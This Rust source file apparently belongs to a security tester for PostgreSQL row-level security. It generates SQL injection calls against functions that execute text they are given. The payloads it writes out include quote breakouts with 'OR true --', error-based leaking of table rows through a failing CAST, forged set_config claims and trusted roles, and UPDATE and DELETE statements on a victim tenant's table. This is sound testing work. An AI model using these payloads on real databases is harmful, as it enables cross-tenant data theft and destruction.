//! SQL passed as an argument, to functions that run the text that they are given.
use super::arguments::{Call, Mix, render, value};
use super::scene::{Attacker, Scene};
use super::statement;
use crate::catalog::{Argument, Function, Relation};
use crate::sql::literal;
use std::collections::BTreeSet;

/// Whether a function runs text that it is given, or sets what policies read.
pub fn runs_text(function: &Function) -> bool {
    let lower = function.body.to_lowercase();
    let words: BTreeSet<&str> = crate::sql::words(&lower).collect();
    let takes_text = function.arguments.iter().any(is_text);
    takes_text && (words.contains("execute") || words.contains("set_config"))
}

fn is_text(argument: &Argument) -> bool {
    matches!(argument.type_name.as_str(), "text" | "character varying")
}

/// SQL passed as text: a query of the victim's table; the victim's claims or a trusted role put in place of one's own,
/// and then a plain query. Settings that the gateway signs are the only ones worth forging: a plain setting may be set by
/// whoever may send SQL anyway.
pub fn smuggled(scene: &Scene, attacker: &Attacker, function: &Function) -> Vec<Call> {
    let policed = scene.owned().find(|r| {
        r.rls
            && !r.platform
            && !r.policies.is_empty()
            && scene.victim_row(attacker, r.oid).is_some()
    });
    let Some(table) = policed else {
        return Vec::new();
    };
    let name = super::scene::named(table);
    let victim = scene
        .attackers
        .iter()
        .find(|a| a.standing == super::Standing::VictimsMember);
    let forged: Vec<(String, String)> = victim
        .into_iter()
        .flat_map(|v| v.settings.clone())
        .filter(|(_, value)| value.starts_with('{'))
        .collect();
    let roles = scene
        .tenancy
        .roles
        .trusted
        .iter()
        .map(|role| ("role".to_owned(), role.clone()));
    let mut out = Vec::new();
    for query in [
        format!("SELECT to_jsonb(t.*) FROM {name} AS t"),
        format!("SELECT jsonb_agg(t.*) FROM {name} AS t"),
        format!("SELECT * FROM {name}"),
    ] {
        out.extend(with_texts(scene, attacker, function, &[query], "", &[]));
    }
    out.extend(broken_out(scene, attacker, function, table));
    // Who is told nothing may still write.
    let set = statement::harmless_set(scene, attacker, table);
    let writes = set.map(|set| format!("UPDATE {name} SET {set}"));
    for write in writes.into_iter().chain([format!("DELETE FROM {name}")]) {
        out.extend(with_texts(scene, attacker, function, &[write], "", &[]));
    }
    for (setting, value) in forged.iter().cloned().chain(roles) {
        let then = format!(";\nSELECT * FROM {name}");
        let set = format!(
            "SELECT set_config({}, {}, true)",
            literal(&setting),
            literal(&value)
        );
        let known = [value.clone()];
        out.extend(with_texts(scene, attacker, function, &[set], &then, &known));
        out.extend(with_texts(
            scene,
            attacker,
            function,
            &[setting, value],
            &then,
            &known,
        ));
    }
    out
}

/// Texts that end the literal they are put into, that are an expression by themselves, or that name a table: each in each
/// text argument alone. A cast that fails tells what it was given.
fn broken_out(
    scene: &Scene,
    attacker: &Attacker,
    function: &Function,
    table: &Relation,
) -> Vec<Call> {
    let name = super::scene::named(table);
    let told = format!("CAST((SELECT string_agg(t::text, ' ') FROM {name} AS t) AS integer)");
    let texts = [
        "x' OR true --".to_owned(),
        "x') OR true --".to_owned(),
        format!("' || {told} || '"),
        told,
        format!("{}.{}", table.schema, table.name),
    ];
    let usual: Option<Vec<String>> = (0..function.arguments.len())
        .map(|at| value(scene, attacker, function, at, Mix::Own))
        .collect();
    let Some(usual) = usual else {
        return Vec::new();
    };
    let places = (0..usual.len()).filter(|&at| is_text(&function.arguments[at]));
    places
        .flat_map(|at| texts.iter().map(move |text| (at, text)))
        .map(|(at, text)| {
            let mut values = usual.clone();
            values[at].clone_from(text);
            let call = render(function, &values);
            Call {
                supplied: Vec::new(),
                ..call
            }
        })
        .collect()
}

/// A call with these texts in its text arguments, one after the other, and what is run after it.
fn with_texts(
    scene: &Scene,
    attacker: &Attacker,
    function: &Function,
    texts: &[String],
    then: &str,
    known: &[String],
) -> Option<Call> {
    let mut left = texts.iter();
    let values: Vec<String> = (0..function.arguments.len())
        .map(|at| match is_text(&function.arguments[at]) {
            true => left
                .next()
                .cloned()
                .or_else(|| value(scene, attacker, function, at, Mix::Own)),
            false => value(scene, attacker, function, at, Mix::Own),
        })
        .collect::<Option<_>>()?;
    if left.next().is_some() {
        return None;
    }
    let call = render(function, &values);
    Some(Call {
        statement: format!("{}{then}", call.statement),
        supplied: known.to_vec(),
    })
}
